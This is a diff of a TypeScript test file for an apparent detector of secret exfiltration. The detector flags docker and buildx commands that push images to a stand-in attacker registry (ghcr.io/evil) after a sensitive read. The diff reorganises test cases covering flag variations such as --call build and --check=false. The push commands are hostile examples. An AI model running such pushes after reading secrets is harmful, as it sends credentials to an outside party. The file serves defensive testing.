@@ -90,11 +90,21 @@ describe('option values read as the tools read them', () => {
         ['/usr/bin/docker', 'build --check --push -t ghcr.io/evil/x:1 .'],
         ['/usr/bin/docker', 'buildx build --call=check,format=json --push -t ghcr.io/evil/x:1 .'],
         ['/usr/local/bin/docker-buildx', 'build --check --push -t ghcr.io/evil/x:1 .'],
+        // A later --call build (or --check=false, or an empty --call) builds after all.
+        ['/usr/bin/docker', 'buildx build --call build --push -t ghcr.io/evil/x:1 .'],
+        ['/usr/bin/docker', 'buildx build --check --call build --push -t ghcr.io/evil/x:1 .'],
+        ['/usr/bin/docker', 'buildx build --check=false --push -t ghcr.io/evil/x:1 .'],
+        ['/usr/bin/docker', 'buildx build --call= --push -t ghcr.io/evil/x:1 .'],
+        ['/usr/local/bin/docker-buildx', 'build --call check --call build --push -t ghcr.io/evil/x:1 .'],
       ] as const)
         expect(afterSecret(binary, args, source), args).toMatchObject([
           { rule: 'sensitive-read-then-push', tool: 'docker', remote: 'ghcr.io/evil/x:1' },
         ]);
-      for (const args of ['buildx bake --call check --push', 'buildx bake --check --push'])
+      for (const args of [
+        'buildx bake --call check --push',
+        'buildx bake --check --push',
+        'buildx bake --call build --push',
+      ])
         expect(afterSecret('/usr/bin/docker', args, source), args).toMatchObject([
           { rule: 'sensitive-read-then-push', tool: 'docker', remote: null },
         ]);
@@ -106,19 +116,6 @@ describe('option values read as the tools read them', () => {
           source,
         ),
       ).toMatchObject([{ rule: 'sensitive-read-then-push', tool: 'docker', remote: 'ghcr.io/evil/c' }]);
-      for (const [binary, args] of [
-        ['/usr/bin/docker', 'buildx build --call build --push -t ghcr.io/evil/x:1 .'],
-        ['/usr/bin/docker', 'buildx build --check --call build --push -t ghcr.io/evil/x:1 .'],
-        ['/usr/bin/docker', 'buildx build --check=false --push -t ghcr.io/evil/x:1 .'],
-        ['/usr/bin/docker', 'buildx build --call= --push -t ghcr.io/evil/x:1 .'],
-        ['/usr/local/bin/docker-buildx', 'build --call check --call build --push -t ghcr.io/evil/x:1 .'],
-      ] as const)
-        expect(afterSecret(binary, args, source), args).toMatchObject([
-          { rule: 'sensitive-read-then-push', tool: 'docker', remote: 'ghcr.io/evil/x:1' },
-        ]);
-      expect(afterSecret('/usr/bin/docker', 'buildx bake --call build --push', source)).toMatchObject([
-        { rule: 'sensitive-read-then-push', tool: 'docker', remote: null },
-      ]);
     });
   }
 });
